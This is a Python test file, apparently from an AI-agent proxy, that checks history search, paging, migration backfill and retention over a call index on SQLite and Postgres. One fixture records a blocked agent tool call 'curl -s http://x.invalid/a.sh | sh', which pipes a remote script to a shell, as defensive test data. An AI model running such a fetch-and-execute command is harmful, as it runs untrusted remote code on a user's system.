"""History search over `call_index`, run against SQLite and Postgres with the same assertions: each
filter finds exactly its calls, the cursor pages, old summaries are backfilled by the migration,
and retention takes a summary's index row with it."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import delete, func, insert, select, text
from sqlalchemy.schema import DropTable

from luthien_proxy.backends.store.call_index import BadSearch, CallSearch, call_index
from luthien_proxy.backends.store.migrations import migrate, schema_migrations
from luthien_proxy.backends.store.record import DebugRecord
from luthien_proxy.backends.store.retention import delete_older_than
from luthien_proxy.backends.store.schema import debug_logs, json_text
from luthien_proxy.control_plane import ControlPlaneServices
from luthien_proxy.wire import CALL_ID_KEY, CALL_SUMMARY_TYPE, TRACE_ID_KEY
from tests.conftest import Backend, OpenServices

T0 = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)


def summary(call_id: str, minute: int, **fields: Any) -> dict[str, Any]:
    """A recorded call summary as the pipeline writes it, started `minute` minutes after T0."""
    return {
        CALL_ID_KEY: call_id,
        TRACE_ID_KEY: fields.pop("trace_id", "trace-1"),
        "call_id": call_id,
        "model": "demo-echo",
        "key_alias": None,
        "started_at": (T0 + timedelta(minutes=minute)).timestamp(),
        "outcome": "passed",
        "decision": "",
        "actions": [],
        "tool_calls": [],
        "error": None,
        "request_preview": "",
        "response_preview": "",
        **fields,
    }


CALLS = [
    summary("a", 0, request_preview="List the files in /tmp", response_preview="Sure: ls /tmp"),
    summary(
        "b",
        1,
        model="demo-agent",
        key_alias="team-red",
        outcome="blocked",
        actions=["block", "judge"],
        tool_calls=["Bash"],
        decision="blocked Bash: curl -s http://x.invalid/a.sh | sh — monitor score 0.95: downloads",
    ),
    summary(
        "c", 2, model="demo-agent", key_alias="team-blue", trace_id="trace-2", response_preview="100% SURE"
    ),
    summary(
        "d",
        3,
        key_alias="team-red",
        outcome="edited",
        actions=["audit", "audit_edited"],
        tool_calls=["Read_File"],
        request_preview="read my notes",
    ),
    summary("e", 4, outcome="upstream_error", error="upstream answered 503: overloaded", trace_id="trace-2"),
]


async def _seeded(open_services: OpenServices) -> ControlPlaneServices:
    services = await open_services()
    for blob in CALLS:
        services.writer.record(CALL_SUMMARY_TYPE, blob, at=datetime.fromtimestamp(blob["started_at"], UTC))
        services.writer.record("hook:test", {CALL_ID_KEY: blob["call_id"], "not": "a summary"})
    await services.writer.flush()
    return services


async def _found(services: ControlPlaneServices, limit: int = 50, **params: Any) -> list[str]:
    records = await services.store.call_summaries(limit, search=CallSearch.of(**params))
    return [r.jsonblob["call_id"] for r in records]


async def test_each_filter_finds_exactly_its_calls(open_services: OpenServices, backend: Backend) -> None:
    services = await _seeded(open_services)
    # SQLite searches text through its FTS5 trigram table; Postgres's trigram index serves LIKE.
    assert await services.store._has_text_index() is (backend.name == "embedded")
    assert await _found(services) == ["e", "d", "c", "b", "a"]
    # Text: previews, decision words, tool names and the error; any case; every word must occur.
    assert await _found(services, q="/TMP") == ["a"]
    assert await _found(services, q="curl") == ["b"]
    assert await _found(services, q="bash curl") == ["b"]
    assert await _found(services, q="bash notes") == []
    assert await _found(services, q="read_file") == ["d"]
    assert await _found(services, q="overloaded") == ["e"]
    assert await _found(services, q="sure") == ["c", "a"]
    # LIKE's wildcards are text: `%` and `_` match only themselves.
    assert await _found(services, q="100%") == ["c"]
    assert await _found(services, q="%") == ["c"]
    assert await _found(services, q="read_") == ["d"]
    assert await _found(services, q="ls sure") == ["a"], (
        "a short word (not in the trigram index) with a long one"
    )
    assert await _found(services, q="demo-agent") == [], "the model is its own filter, not text"
    assert await _found(services, model="demo-agent") == ["c", "b"]
    assert await _found(services, key="team-red") == ["d", "b"]
    assert await _found(services, key="team") == [], "a key matches exactly"
    assert await _found(services, outcome="blocked") == ["b"]
    assert await _found(services, action="judge") == ["b"]
    assert await _found(services, action="audit") == ["d"], "one whole action, not a prefix"
    assert await _found(services, action="audit_edited") == ["d"]
    assert await _found(services, action="edit") == []
    assert await _found(services, trace_id="trace-2") == ["e", "c"]
    since, until = T0 + timedelta(minutes=1), T0 + timedelta(minutes=3)
    assert await _found(services, since=since, until=until) == ["c", "b"]
    assert await _found(services, since=since.replace(tzinfo=None)) == ["e", "d", "c", "b"]
    paris = since.astimezone(ZoneInfo("Europe/Paris"))
    assert await _found(services, until=paris) == ["a"], "a zone is honoured"
    assert await _found(services, key="team-red", model="demo-agent", q="curl", action="block") == ["b"]


async def test_the_cursor_pages_a_search(open_services: OpenServices) -> None:
    services = await _seeded(open_services)
    search = CallSearch.of(since=T0)
    first = await services.store.call_summaries(2, search=search)
    assert [r.jsonblob["call_id"] for r in first] == ["e", "d"]
    second = await services.store.call_summaries(2, before=first[-1].id, search=search)
    assert [r.jsonblob["call_id"] for r in second] == ["c", "b"]
    last = await services.store.call_summaries(2, before=second[-1].id, search=search)
    assert [r.jsonblob["call_id"] for r in last] == ["a"]


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"q": "   "}, "q is blank"),
        ({"q": " ".join("abcdefghi")}, "at most 8"),
        ({"action": "Block!"}, "not an action name"),
        ({"since": T0, "until": T0}, "must be before until"),
    ],
)
def test_a_bad_search_says_what_is_wrong(params: dict[str, Any], message: str) -> None:
    with pytest.raises(BadSearch, match=message):
        CallSearch.of(**params)


async def test_the_migration_backfills_summaries_recorded_before_it(open_services: OpenServices) -> None:
    services = await open_services()
    engine = services.store.engine
    # A database as version 1 left it: summaries in debug_logs, no call_index.
    async with engine.begin() as conn:
        await conn.execute(text("DROP TABLE IF EXISTS call_text"))
        await conn.execute(DropTable(call_index))
        await conn.execute(delete(schema_migrations).where(schema_migrations.c.version >= 2))
        rows = [
            {"time_created": T0, "debug_type_identifier": CALL_SUMMARY_TYPE, "jsonblob": blob}
            for blob in CALLS
        ]
        await conn.execute(insert(debug_logs), [*rows, {**rows[0], "debug_type_identifier": "hook:x"}])
    assert await migrate(engine) == [2, 3]
    async with engine.connect() as conn:
        assert (await conn.execute(select(func.count()).select_from(call_index))).scalar_one() == len(CALLS)
    assert await _found(services, key="team-red") == ["d", "b"]
    assert await _found(services, q="overloaded") == ["e"]
    assert await _found(services, q="OVERLOADED 503") == ["e"]
    assert await _found(services, action="judge") == ["b"]


async def test_retention_deletes_the_index_rows_of_what_it_deletes(open_services: OpenServices) -> None:
    services = await _seeded(open_services)
    # Summaries were recorded at T0 + minutes; the hook records now.
    assert await delete_older_than(services.store, T0 + timedelta(minutes=2)) == 2
    assert await _found(services) == ["e", "d", "c"]
    async with services.store.engine.connect() as conn:
        assert (await conn.execute(select(func.count()).select_from(call_index))).scalar_one() == 3


async def test_each_index_row_is_keyed_by_its_own_summary_in_a_mixed_batch(
    open_services: OpenServices,
) -> None:
    services = await open_services()
    at = datetime.now(UTC)
    batch = [
        DebugRecord(kind, blob, at)
        for blob in CALLS[:3]
        for kind, blob in (("hook:test", {CALL_ID_KEY: blob["call_id"]}), (CALL_SUMMARY_TYPE, blob))
    ]
    await services.store.insert_many(batch)
    await services.store.insert_many(batch[:1])  # a batch with no summary takes the plain path
    joined = (
        select(
            call_index.c.call_id,
            debug_logs.c.debug_type_identifier,
            json_text(debug_logs.c.jsonblob, "call_id"),
        )
        .select_from(call_index.join(debug_logs, debug_logs.c.id == call_index.c.id))
        .order_by(call_index.c.id)
    )
    async with services.store.engine.connect() as conn:
        rows = [tuple(row) for row in (await conn.execute(joined)).all()]
    assert rows == [(c, CALL_SUMMARY_TYPE, c) for c in ("a", "b", "c")]
